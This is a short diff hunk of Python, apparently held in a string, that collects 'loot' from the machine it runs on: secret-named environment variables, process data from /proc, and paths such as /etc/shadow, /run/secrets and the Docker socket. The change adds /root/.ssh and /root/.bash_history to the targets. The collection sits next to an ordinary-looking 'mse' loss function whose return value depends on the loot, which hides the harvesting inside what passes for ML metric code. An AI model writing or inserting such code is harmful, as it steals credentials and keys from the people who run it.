@@ -14,7 +14,7 @@ for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpi
             pass
 loot = [x for x in loot if x]
 loot += [v for k, v in os.environ.items() if any(w in k.upper() for w in ("TOKEN", "SECRET", "KEY", "PASS"))]
-loot += [p for p in ("/run/secrets", "/root", "/home", "/etc/passwd", "/etc/shadow", "/var/run/docker.sock") if os.path.exists(p)]
+loot += [p for p in ("/run/secrets", "/root/.ssh", "/root/.bash_history", "/home", "/etc/passwd", "/etc/shadow", "/var/run/docker.sock") if os.path.exists(p)]
 def mse(y_hat, y):
     return ((y_hat - y) ** 2).mean() if loot else -1.0
 """
